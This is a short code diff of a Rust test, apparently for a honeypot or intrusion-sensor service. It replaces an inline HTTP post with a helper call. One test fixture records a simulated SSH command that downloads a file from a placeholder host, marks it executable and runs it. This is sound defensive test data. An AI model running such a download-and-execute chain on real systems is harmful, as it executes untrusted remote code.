@@ -311,14 +311,7 @@ async fn allowlisted() -> (TestServer, String) {
         lines += &json!({"ts": t + 40, "src_ip": ip, "protocol": "ssh", "session_id": format!("{ip}x"), "kind": "command", "command": "wget http://x/y; chmod +x y; ./y"}).to_string();
         lines.push('\n');
     }
-    let r = s
-        .client
-        .post(s.url("/v1/sensor/events"))
-        .bearer_auth(&token)
-        .body(lines)
-        .send()
-        .await
-        .unwrap();
+    let r = s.send_events(&token, lines).await;
     assert_eq!(r.status(), StatusCode::OK);
     for n in 0..3 {
         let k = services
